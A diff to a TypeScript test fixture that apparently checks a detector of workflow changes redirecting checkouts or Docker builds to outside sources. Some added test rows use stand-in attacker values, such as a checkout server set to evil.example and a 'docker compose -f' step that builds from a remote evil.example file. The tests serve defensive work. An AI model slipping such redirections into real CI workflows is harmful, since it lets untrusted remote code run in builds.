@@ -7,6 +7,8 @@ const flow = (inputs: string, steps: string) =>
 
 const RUN = '      - run: docker build .\n';
 
+const DOCKERFILE = { Dockerfile: 'FROM debian:trixie-slim\n' };
+
 /** Of a build in another repository all that is known is what was checked out. */
 const CHANGES: readonly (readonly [before: string, after: string, steps?: string])[] = [
   ['repository: o/x', 'repository: evil/x'],
@@ -19,13 +21,17 @@ const CHANGES: readonly (readonly [before: string, after: string, steps?: string
     '      - uses: docker/build-push-action@v6\n        with: { context: . }\n',
   ],
   ['repository: o/x', 'repository: evil/x', '      - uses: docker/bake-action@v6\n'],
+  ['fetch-depth: 0', 'github-server-url: https://evil.example'],
+  ...['oci://evil.example/x:1', 'https://evil.example/o/x.git'].map(
+    (file) => ['fetch-depth: 0', 'fetch-depth: 1', `      - run: docker compose -f ${file} build\n`] as const,
+  ),
 ];
 
 export const OTHER_CHECKOUTS: readonly BuildChangeRow[] = [
   ...CHANGES.map(
     ([before, after, steps = RUN]): BuildChangeRow => ({
       name: `found in a checkout of ${before} that becomes ${after}: ${steps.trim()}`,
-      base: { [FLOW]: flow(before, steps) },
+      base: { ...DOCKERFILE, [FLOW]: flow(before, steps.includes('compose') ? '' : steps) },
       change: { [FLOW]: flow(after, steps) },
       found: [`${FLOW}:8 unresolved`],
     }),
